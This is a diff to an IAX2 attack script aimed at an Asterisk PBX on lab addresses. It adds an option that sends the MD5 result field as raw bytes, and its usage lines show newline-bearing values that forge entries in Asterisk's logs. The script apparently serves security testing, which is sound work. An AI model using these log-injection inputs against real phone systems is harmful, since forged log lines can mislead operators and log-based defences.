@@ -3,6 +3,7 @@
 
     iaxattack.py --pbx 10.96.0.1:4569 --local 10.96.0.2:4570 new --user 300      # wrong MD5 on a call
     iaxattack.py --pbx 10.96.0.1:4569 --local 10.96.0.2:4570 regreq --user 300   # wrong MD5 on REGREQ
+    iaxattack.py ... regreq --user 300 --md5-result $'x\\n[Nov 30 …] …'   # raw MD5 result IE
 
 The user name is sent as raw bytes (IAX2 information elements are not encoded), so
 --user $'x\\n[Nov 30 …] …' puts a newline into whatever Asterisk logs it in.
@@ -103,7 +104,9 @@ def attempt(args, kind):
         sub, ies = c.recv()
     if sub in (AUTHREQ, REGAUTH):
         chal = ies.get(IE_CHALLENGE, b"")
-        res = ie(IE_MD5_RESULT, md5hex(chal, args.password))
+        md5 = (args.md5_result.encode("latin-1", "surrogateescape") if args.md5_result is not None
+               else md5hex(chal, args.password))
+        res = ie(IE_MD5_RESULT, md5)
         if kind == "new":
             c.send(ACK)
             c.send(AUTHREP, res)
@@ -122,6 +125,7 @@ def main():
     p.add_argument("--user", default="300")
     p.add_argument("--password", default="wrong-password")
     p.add_argument("--exten", default="1000")
+    p.add_argument("--md5-result", help="MD5 result IE sent as these raw bytes (newlines too)")
     args = p.parse_args()
     attempt(args, args.kind)
 
